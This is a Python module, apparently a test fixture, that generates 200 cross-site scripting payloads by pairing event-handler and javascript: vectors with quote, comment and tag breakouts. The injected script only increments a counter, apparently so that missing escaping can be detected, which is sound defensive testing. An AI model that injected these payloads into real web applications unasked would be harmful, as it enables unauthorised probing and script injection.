"""Two hundred texts that would run a script where something forgot to escape them, all fit to be a name or a note."""

RUN = "window.hit=(window.hit||0)+1"

_EVENTS = (
    "<img src=x onerror={}>", "<svg onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<details open ontoggle={}><summary>x</summary></details>", "<input autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<iframe onload={}></iframe>", "<style onload={}></style>", "<script>{}</script>",
    "<script src=data:text/javascript,{}></script>", "<a href=javascript:{} id=link>x</a>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>", "<iframe src=javascript:{}></iframe>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
    "<select autofocus onfocus={}></select>",
)  # fmt: skip
_BREAKS = (
    "{}", '">{}', "'>{}", "--></title></textarea></style></script>{}", "\u2028{}", "</{}", "]]>{}", "\x0b{}", "`{}`",
    "{{{{{}}}}}",
)  # fmt: skip


def payloads() -> list[str]:
    """Each way to run a script behind each way to break out of a text, an attribute, a comment or a string."""
    return [breaking.format(event.format(RUN)) for event in _EVENTS for breaking in _BREAKS]
